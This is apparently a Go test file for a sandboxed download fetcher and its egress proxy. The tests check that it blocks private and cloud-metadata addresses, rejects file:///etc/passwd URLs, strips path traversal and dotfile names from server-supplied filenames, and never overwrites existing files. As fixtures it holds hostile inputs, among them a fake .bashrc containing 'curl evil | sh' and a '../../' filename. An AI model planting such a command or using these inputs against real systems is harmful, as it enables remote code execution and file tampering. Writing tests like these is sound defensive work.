package dataplane_test

import (
	"context"
	"net"
	"net/http"
	"net/netip"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/sandgate/sandgate/dataplane"
	"github.com/sandgate/sandgate/egress"
)

// fetchServer serves test downloads on 127.0.0.2 (the only address the
// fetcher's dialer allows) until the test ends.
func fetchServer(t *testing.T, loopbackPort string) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.2:0")
	if err != nil {
		t.Skipf("cannot listen on 127.0.0.2: %v", err)
	}
	mux := http.NewServeMux()
	mux.HandleFunc("/data.csv", func(w http.ResponseWriter, r *http.Request) { _, _ = w.Write([]byte("a,b\n1,2\n")) })
	mux.HandleFunc("/named", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Disposition", `attachment; filename="../../report 1.txt"`)
		_, _ = w.Write([]byte("report"))
	})
	mux.HandleFunc("/dir/", func(w http.ResponseWriter, r *http.Request) { _, _ = w.Write([]byte("index")) })
	mux.HandleFunc("/dotfile", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Disposition", `attachment; filename=".bashrc"`)
		_, _ = w.Write([]byte("curl evil | sh\n"))
	})
	mux.HandleFunc("/a.txt", func(w http.ResponseWriter, r *http.Request) { _, _ = w.Write([]byte("new")) })
	mux.HandleFunc("/.profile", func(w http.ResponseWriter, r *http.Request) { _, _ = w.Write([]byte("profile")) })
	mux.HandleFunc("/redirect-dot", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "/.profile", http.StatusFound)
	})
	mux.HandleFunc("/big", func(w http.ResponseWriter, r *http.Request) {
		// No Content-Length: the cap is found while streaming.
		for i := 0; i < 64; i++ {
			_, _ = w.Write(make([]byte, 1024))
			w.(http.Flusher).Flush()
		}
	})
	mux.HandleFunc("/missing", http.NotFound)
	mux.HandleFunc("/redirect-out", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "http://127.0.0.1:"+loopbackPort+"/data.csv", http.StatusFound)
	})
	mux.HandleFunc("/redirect-in", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "/data.csv", http.StatusFound)
	})
	mux.HandleFunc("/loop", func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, "/loop", http.StatusFound) })
	srv := &http.Server{Handler: mux}
	go func() { _ = srv.Serve(ln) }()
	t.Cleanup(func() { _ = srv.Close() })
	return "http://" + ln.Addr().String()
}

func TestFetch(t *testing.T) {
	// A server on 127.0.0.1 the fetcher must never reach.
	forbidden, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	reached := make(chan struct{}, 10)
	fsrv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { reached <- struct{}{} })}
	go func() { _ = fsrv.Serve(forbidden) }()
	t.Cleanup(func() { _ = fsrv.Close() })
	_, fport, _ := net.SplitHostPort(forbidden.Addr().String())
	base := fetchServer(t, fport)

	proxy, err := egress.New(egress.Config{
		AllowCIDRs: []netip.Prefix{netip.MustParsePrefix("127.0.0.2/32")},
		Hosts: map[string][]netip.Addr{
			"files.test": {netip.MustParseAddr("127.0.0.2")},
			"meta.test":  {netip.MustParseAddr("169.254.169.254")},
		},
		Resolver: &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
			return nil, net.UnknownNetworkError("no DNS in tests")
		}},
	})
	if err != nil {
		t.Fatal(err)
	}
	s := newFilesSandbox(t, "workdir", filesBinary(t))
	f := s.open(t)
	fe := &dataplane.Fetcher{Dial: proxy.DialPublic, MaxBytes: 32 << 10}
	u, _ := url.Parse(base)
	byName := "http://files.test:" + u.Port()

	res, err := fe.Fetch(context.Background(), f, []string{
		base + "/data.csv", byName + "/data.csv", base + "/named", base + "/dir/", base + "/redirect-in",
		base + "/big", base + "/missing", base + "/redirect-out", "http://meta.test/latest", base + "/loop",
		"http://127.0.0.1:" + fport + "/direct",
	}, "data/in")
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != dataplane.FetchPartialSuccess {
		t.Errorf("status %q", res.Status)
	}
	// Names are claimed as answers come: which copy of data.csv gets
	// which name varies.
	fetched := slices.Sorted(slices.Values(res.Fetched))
	if got := strings.Join(fetched, "|"); got != "data/in/data-1.csv|data/in/data-2.csv|data/in/data.csv|data/in/download|data/in/report 1.txt" {
		t.Errorf("fetched %q", got)
	}
	wantErrs := map[string]string{
		base + "/big":                           "over the limit of 32768 bytes",
		base + "/missing":                       "HTTP 404",
		base + "/redirect-out":                  "private address 127.0.0.1",
		"http://meta.test/latest":               "meta.test:80: resolves to a private address",
		base + "/loop":                          "redirects",
		"http://127.0.0.1:" + fport + "/direct": "private address 127.0.0.1",
	}
	for _, e := range res.Errors {
		if want, ok := wantErrs[e.URL]; !ok || !strings.Contains(e.Error, want) {
			t.Errorf("error for %s: %q, want %q", e.URL, e.Error, want)
		}
		delete(wantErrs, e.URL)
	}
	if len(wantErrs) > 0 {
		t.Errorf("no error for %v", wantErrs)
	}
	if got := s.run(t, "cd data/in && ls -A && cat 'report 1.txt' data-2.csv"); got != "data-1.csv\ndata-2.csv\ndata.csv\ndownload\nreport 1.txt\nreporta,b\n1,2\n" {
		t.Errorf("in the sandbox: %q", got)
	}
	select {
	case <-reached:
		t.Error("the fetcher reached 127.0.0.1")
	default:
	}

	// All failed, and all fine.
	if res, _ := fe.Fetch(context.Background(), f, []string{base + "/missing"}, "."); res.Status != dataplane.FetchFailure || len(res.Fetched) != 0 {
		t.Errorf("failure: %+v", res)
	}
	if res, _ := fe.Fetch(context.Background(), f, []string{base + "/data.csv"}, "."); res.Status != dataplane.FetchSuccess || res.Fetched[0] != "data.csv" {
		t.Errorf("success: %+v", res)
	}
	// destDir that is a file.
	if _, err := fe.Fetch(context.Background(), f, []string{base + "/data.csv"}, "data.csv"); kindOf(err) != dataplane.KindNotDir {
		t.Errorf("destDir a file: %v", err)
	}
}

func TestCheckFetch(t *testing.T) {
	many := make([]string, dataplane.MaxFetchURLs+1)
	for i := range many {
		many[i] = "https://example.com/x"
	}
	for _, tc := range []struct {
		urls []string
		ok   bool
	}{
		{[]string{"https://example.com/a", "http://example.com:8080/b?c=d"}, true},
		{many[:dataplane.MaxFetchURLs], true},
		{nil, false},
		{many, false},
		{[]string{"ftp://example.com/a"}, false},
		{[]string{"file:///etc/passwd"}, false},
		{[]string{"/relative"}, false},
		{[]string{"http://"}, false},
		{[]string{"http://exa mple.com/"}, false},
	} {
		if err := dataplane.CheckFetch(tc.urls); (err == nil) != tc.ok {
			t.Errorf("CheckFetch(%.60q) = %v", tc.urls, err)
		}
	}
}

// TestFetchNeverReplaces: a download never replaces a file already there
// unless Overwrite is set, and a name the remote server picks never starts
// with a dot (issue 35 item 4: Content-Disposition ".bashrc" replaced the
// user's .bashrc).
func TestFetchNeverReplaces(t *testing.T) {
	base := fetchServer(t, "1")
	proxy, err := egress.New(egress.Config{AllowCIDRs: []netip.Prefix{netip.MustParsePrefix("127.0.0.2/32")}})
	if err != nil {
		t.Fatal(err)
	}
	s := newFilesSandbox(t, "workdir", filesBinary(t))
	f := s.open(t)
	s.run(t, "mkdir home && printf mine > home/.bashrc && printf old > home/a.txt && printf mine > home/profile")
	fe := &dataplane.Fetcher{Dial: proxy.DialPublic, MaxBytes: 32 << 10}
	res, err := fe.Fetch(context.Background(), f, []string{base + "/dotfile", base + "/a.txt", base + "/a.txt", base + "/redirect-dot"}, "home")
	if err != nil {
		t.Fatal(err)
	}
	fetched := slices.Sorted(slices.Values(res.Fetched))
	if got := strings.Join(fetched, "|"); res.Status != dataplane.FetchSuccess || got != "home/a-1.txt|home/a-2.txt|home/bashrc|home/profile-1" {
		t.Errorf("fetched %q (%+v)", got, res)
	}
	if got := s.run(t, "cd home && ls -A && cat .bashrc a.txt profile"); got != ".bashrc\na-1.txt\na-2.txt\na.txt\nbashrc\nprofile\nprofile-1\nmineoldmine" {
		t.Errorf("in the sandbox: %q", got)
	}

	// overwrite: true replaces, still never under a dotted name.
	fe.Overwrite = true
	res, err = fe.Fetch(context.Background(), f, []string{base + "/a.txt", base + "/dotfile"}, "home")
	if err != nil {
		t.Fatal(err)
	}
	fetched = slices.Sorted(slices.Values(res.Fetched))
	if got := strings.Join(fetched, "|"); got != "home/a.txt|home/bashrc" {
		t.Errorf("overwrite: fetched %q", got)
	}
	if got := s.run(t, "cd home && cat a.txt .bashrc"); got != "newmine" {
		t.Errorf("overwrite: %q", got)
	}
}
